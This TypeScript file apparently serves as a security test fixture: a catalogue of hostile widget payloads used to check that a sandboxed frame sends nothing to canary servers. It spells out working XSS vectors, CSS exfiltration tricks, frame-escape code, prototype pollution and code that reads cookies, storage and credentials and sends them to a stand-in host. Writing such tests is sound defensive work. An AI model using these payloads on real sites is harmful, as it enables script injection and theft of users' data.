/** A hostile widget. `CANARY` and `UDP` are addresses of servers that must receive nothing from it. */
export interface Attack {
  readonly name: string
  readonly html?: string
  readonly css?: string
  /** Code that runs in the frame as afterRender. */
  readonly code?: string
}

/** Code that reports that it runs in the page: `hit()` exists only there. */
const hit = 'window.hit()'

const addSecretToUrls = (text: string) => text.replaceAll('CANARY', 'CANARY/leak?secret')

const inHtml: readonly Attack[] = [
  { name: 'scripts', html: `<script>${hit}</script><script src="CANARY"></script>` },
  {
    name: 'event handlers',
    html: `<img src=x onerror="${hit}"><svg onload="${hit}"></svg><input autofocus onfocus="${hit}">`,
  },
  {
    name: 'javascript: URLs',
    html: `<a id=press href="javascript:${hit}">x</a><iframe src="javascript:parent.hit()"></iframe>`,
  },
  {
    name: 'data: URLs',
    html: `<iframe src="data:text/html,<script>parent.hit()</script>"></iframe><object data="data:text/html,<script>parent.hit()</script>"></object><a id=press href="data:text/html,x">x</a>`,
  },
  {
    name: 'srcdoc documents',
    html: `<iframe srcdoc="<script>top.hit()</script><img src=CANARY>"></iframe>`,
  },
  {
    name: 'scripts in SVG',
    html: `<svg><script>${hit}</script><a><animate attributeName=href values="javascript:${hit}"/><text>x</text></a><set onbegin="${hit}"/></svg>`,
  },
  {
    name: 'SVG foreign objects',
    html: `<svg><foreignObject><iframe srcdoc="<script>top.hit()</script>"></iframe><img src=x onerror="${hit}"></foreignObject></svg>`,
  },
  {
    name: 'external SVG references',
    html: '<svg><use href="CANARY#a"/><image href="CANARY"/><rect fill="url(CANARY#a)" width=9 height=9 /></svg>',
  },
  {
    name: 'style elements and external style sheets',
    html: '<style>@import "CANARY"; body { display: none }</style><link rel=stylesheet href="CANARY">',
  },
  {
    name: 'external images, audio and video',
    html: '<img src="CANARY"><img srcset="CANARY 1x"><audio src="CANARY" autoplay></audio><video poster="CANARY" src="CANARY"></video><picture><source srcset="CANARY"><img></picture><input type=image src="CANARY">',
  },
  {
    name: 'resource hints',
    html: '<link rel=prefetch href="CANARY"><link rel=preload as=image href="CANARY"><link rel=modulepreload href="CANARY"><link rel=preconnect href="CANARY"><link rel=dns-prefetch href="CANARY">',
  },
  {
    name: 'speculation rules',
    html: '<script type=speculationrules>{"prefetch":[{"urls":["CANARY"],"eagerness":"immediate"}]}</script>',
  },
  { name: 'a meta refresh', html: '<meta http-equiv=refresh content="0;url=/elsewhere">' },
  {
    name: 'a base element',
    html: '<base href="CANARY/"><img src="relative"><a id=press href="relative">x</a>',
  },
  {
    name: 'forms that post to another site',
    html: '<form id=send action="CANARY"><input name=a value=secret><button id=press>x</button></form><button form=send formaction="CANARY">x</button>',
  },
  {
    name: 'ids and names of the page',
    html: '<div id=app>mine</div><div id=weft-page>{}</div><p id=weft-status>mine</p><form name=querySelector></form><img name=getElementById><a id=cookie></a><form id=body></form>',
  },
  {
    name: 'elements that cover the page',
    html: '<div style="position:fixed;inset:0;z-index:2147483647;background:red">over</div><dialog open>over</dialog><div popover id=p>over</div>',
    css: '* { position: fixed !important; inset: 0; z-index: 2147483647; width: 100vw; height: 100vh; background: red }',
  },
  {
    name: 'deep and wide markup',
    html: `${'<b>'.repeat(3000)}deep${'<p>wide</p>'.repeat(20_000)}`,
  },
  { name: 'end tags of its host', html: '</div></div></body></html><div id=app>mine</div>' },
]

const inCss: readonly Attack[] = [
  { name: 'CSS imports', css: '@import "CANARY"; @import url(CANARY);' },
  {
    name: 'CSS attribute selectors that leak values',
    html: '<input id=i value="s">',
    css: 'input[value^="s"] { background: url(CANARY) } #outside { background: url(CANARY) }',
  },
  {
    name: 'external fonts',
    css: '@font-face { font-family: f; src: url(CANARY) } p { font-family: f }',
  },
  {
    name: 'external CSS images',
    css: 'p { background: url(CANARY); list-style: url(CANARY); cursor: url(CANARY), auto; border-image: url(CANARY); mask: url(CANARY); content: url(CANARY); --u: url(CANARY); filter: url(CANARY#f) }',
  },
  {
    name: 'CSS for elements outside',
    css: '} #outside, body, html { color: rgb(255, 0, 0) !important; display: none !important } :root { --x: 1 }',
  },
  {
    name: 'style attributes that load from elsewhere',
    html: `<p style="background: url(CANARY)">a</p><p style="--u: url(CANARY); background: var(--u)">b</p><p style="background: u\\72l(CANARY)">c</p>
      <p style="list-style: image-set('CANARY' 1x)">d</p><p style='mask: url("CANARY"); content: url(//CANARY)'>e</p><p style="color: red } * { background: url(CANARY)">f</p>
      <svg><rect style="fill: url(CANARY#a); filter: url(CANARY#b)" width=9 height=9 /></svg>`,
  },
  {
    name: 'addresses that look like those of a listed host',
    html: `<img src="http://listed.test@CANARY/a"><img src="CANARY/https://listed.test/"><iframe src="CANARY#https://listed.test/"></iframe>
      <iframe src="https://listed.test\\@CANARY"></iframe><p style="background: url(https://listed.test@CANARY)">a</p>`,
    css: 'p { background: url(https://listed.test@CANARY); mask: url("https://listed.test\\@CANARY") }',
  },
  {
    name: 'frames of this site and of code',
    html: `<iframe src="/account"></iframe><iframe src="javascript:parent.hit()"></iframe><iframe src="blob:x"></iframe><iframe src="https://listed.test:1/" srcdoc="<script>top.hit()</script>" onload="${hit}"></iframe>
      <iframe name=app id=app srcdoc="<script>parent.hit()</script>"></iframe>`,
  },
  {
    name: 'escaped CSS function names',
    css: 'p { background: u\\72l(CANARY); --x: u\\72l(CANARY); mask: var(--x) }',
  },
]

/** Returns code that sends the value of an expression through `notify`, the only channel out of the frame. */
const leak = (expression: string) =>
  `{ let seen; try { seen = String(await (${expression})) } catch (e) { seen = 'refused' }; this.notify(seen) }\n`

const inCode: readonly Attack[] = [
  {
    name: 'code that reads the page',
    code:
      leak('parent.document.body.innerHTML') +
      leak('top.document.title') +
      leak('frameElement.outerHTML') +
      leak('parent.hit()') +
      leak('parent.weft'),
  },
  {
    name: 'code that reads cookies',
    code: `${leak('document.cookie')}try { document.cookie = 'mine=1' } catch {}`,
  },
  {
    name: 'code that reads storage',
    code: [
      'localStorage.getItem("token")',
      'sessionStorage.length',
      'indexedDB.databases().then(JSON.stringify)',
      'caches.keys()',
      'navigator.storage.getDirectory()',
      'cookieStore.getAll()',
    ]
      .map(leak)
      .join('\n'),
  },
  {
    name: 'code that sends requests',
    code: `
      const tries = [
        () => fetch('CANARY'), () => fetch('/api/v1/pages?slug=/'), () => navigator.sendBeacon('CANARY', 'secret'),
        () => new WebSocket('CANARY'.replace('http', 'ws')), () => new EventSource('CANARY'), () => new WebTransport('CANARY'.replace('http:', 'https:')),
        () => { const x = new XMLHttpRequest(); x.open('POST', 'CANARY'); x.send('secret') },
        () => { new Image().src = 'CANARY' }, () => import('CANARY'), () => new Worker('CANARY'),
        () => new Worker(URL.createObjectURL(new Blob(['fetch("CANARY")']))), () => new SharedWorker('CANARY'),
        () => navigator.serviceWorker.register('CANARY'), () => new Audio('CANARY').play(),
        () => new FontFace('f', 'url(CANARY)').load(), () => document.fonts.load('1px f'),
        () => { const a = document.createElement('a'); a.href = '#'; a.ping = 'CANARY'; document.body.append(a); a.click() },
        () => { const s = document.createElement('script'); s.src = 'CANARY'; document.body.append(s) },
        () => { for (const rel of ['prefetch', 'preload', 'modulepreload', 'stylesheet', 'icon', 'manifest', 'preconnect', 'dns-prefetch', 'prerender']) { const l = document.createElement('link'); l.rel = rel; l.as = 'image'; l.href = 'CANARY'; document.head.append(l) } },
        () => { const s = document.createElement('script'); s.type = 'speculationrules'; s.text = '{"prefetch":[{"urls":["CANARY"],"eagerness":"immediate"}]}'; document.body.append(s) },
        () => { document.body.style.background = 'url(CANARY)' },
      ]
      for (const one of tries) try { Promise.resolve(one()).catch(() => {}) } catch {}`,
  },
  {
    name: 'code that opens peer connections',
    code: `
      const frame = document.createElement('iframe'); frame.srcdoc = '<img src=x onerror="new RTCPeerConnection()">'; document.body.append(frame)
      const makers = [() => RTCPeerConnection, () => webkitRTCPeerConnection, () => frame.contentWindow.RTCPeerConnection, () => Reflect.getOwnPropertyDescriptor(Window.prototype, 'RTCPeerConnection').value]
      for (const make of makers) try { const p = new (make())({ iceServers: [{ urls: 'stun:UDP' }] }); p.createDataChannel('x'); p.setLocalDescription(await p.createOffer()); this.notify('connected') } catch {}`,
  },
  {
    name: 'code that forges bridge messages',
    code: `
      for (let i = 0; i < 9; i++) for (const w of [parent, top]) w.postMessage({ kind: 'start', token: 'mine', weft: 'port' }, '*')
      parent.postMessage('weft-port', '*', [new MessageChannel().port1])
      for (const name of ['constructor', '__proto__', 'toString', 'setToken', 'create', 'fetch', 'close']) try { await tsccs[name]('x') } catch {}`,
  },
  {
    name: 'code that opens windows',
    code:
      leak('window.open("CANARY")') +
      leak('window.open("", "x")') +
      `const a = document.createElement('a'); a.target = '_blank'; a.href = 'CANARY'; document.body.append(a); a.click(); try { alert(1); confirm(1); prompt(1); print() } catch {}`,
  },
  {
    name: 'code that navigates the page',
    code:
      leak('top.location = "CANARY"') +
      leak('parent.location.replace("CANARY")') +
      `const a = document.createElement('a'); a.target = '_top'; a.href = 'CANARY'; document.body.append(a); a.click(); history.back()`,
  },
  { name: 'code that navigates its frame', code: `location.href = 'CANARY'` },
  {
    name: 'code that replaces the document of its frame',
    code: `document.body.innerHTML = '<a id=a href="CANARY">x</a>'; document.getElementById('a').click(); navigation.navigate('CANARY')`,
  },
  {
    name: 'code that nests a frame',
    code: `const f = document.createElement('iframe'); f.src = 'CANARY'; document.body.append(f)`,
  },
  {
    name: 'code that nests frames and navigates them',
    code: `
      const nest = (set) => { const f = document.createElement('iframe'); set(f); document.body.append(f); return f }
      const tries = [
        () => { nest(() => {}).contentWindow.location = 'CANARY' },
        () => { nest((f) => { f.sandbox = 'allow-scripts allow-same-origin allow-top-navigation' }).src = 'CANARY' },
        () => { document.body.insertAdjacentHTML('beforeend', '<iframe src="CANARY"></iframe><object data="CANARY"></object><embed src="CANARY">') },
        () => nest((f) => { f.srcdoc = '<meta http-equiv=refresh content="0;url=CANARY"><iframe src="CANARY"></iframe><link rel=preconnect href="CANARY"><img src="CANARY">' }),
        () => nest((f) => { f.srcdoc = '<script>location = "CANARY"</' + 'script>' }),
        () => nest((f) => { f.src = URL.createObjectURL(new Blob(['<meta http-equiv=refresh content="0;url=CANARY">'], { type: 'text/html' })) }),
        () => { nest((f) => { f.name = 'inner' }); const a = document.createElement('a'); a.target = 'inner'; a.href = 'CANARY'; document.body.append(a); a.click() },
        () => { const s = document.createElement('frameset'); s.innerHTML = '<frame src="CANARY">'; document.documentElement.append(s) },
        () => { const f = document.createElement('fencedframe'); document.body.append(f); f.config = new FencedFrameConfig('CANARY') },
      ]
      for (const one of tries) try { one() } catch {}`,
  },
  {
    name: 'code that submits a form',
    code: `const f = document.createElement('form'); f.action = 'CANARY'; f.method = 'post'; document.body.append(f); f.submit()`,
  },
  {
    name: 'code that adds a meta refresh',
    code: `document.head.innerHTML = '<meta http-equiv=refresh content="0;CANARY">'`,
  },
  {
    name: 'code that pollutes prototypes',
    code: `
      Object.prototype.polluted = 1
      this.notify(JSON.parse('{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}'))
      try { await tsccs.query(JSON.parse('{"__proto__": {"polluted": 1}, "type": "__proto__"}')) } catch {}
      try { await tsccs.find('__proto__', 'constructor') } catch {}`,
  },
  {
    name: 'code that requests fullscreen',
    code:
      leak('document.documentElement.requestFullscreen().then(() => "full")') +
      `document.body.requestPointerLock?.(); document.documentElement.style.cssText = 'position:fixed;inset:0;z-index:2147483647'`,
  },
  {
    name: 'code that requests permissions',
    code: [
      'navigator.geolocation.getCurrentPosition(() => {}) ?? "asked"',
      'navigator.mediaDevices.getUserMedia({ video: true })',
      'navigator.clipboard.readText()',
      'Notification.requestPermission()',
      'navigator.credentials.get({ password: true })',
    ]
      .map(leak)
      .join('\n'),
  },
  {
    name: 'code that replaces built-ins',
    code: `JSON.stringify = () => '{"kind":"height","height":1e9}'; Map.prototype.get = () => ({ resolve() {} }); document.body.remove(); MessagePort.prototype.postMessage = () => {}`,
  },
  {
    name: 'code that adds 200,000 elements',
    code: `for (let i = 0; i < 200_000; i++) document.body.append(document.createElement('b'))`,
  },
]

/** Returns every attack, aimed at the given canary servers. */
export const attacks = (canary: string, udp: string): readonly Attack[] =>
  [...inHtml, ...inCss, ...inCode].map((attack) => {
    const aimed = addSecretToUrls(JSON.stringify(attack))
    return JSON.parse(aimed.replaceAll('CANARY', canary).replaceAll('UDP', udp)) as Attack
  })
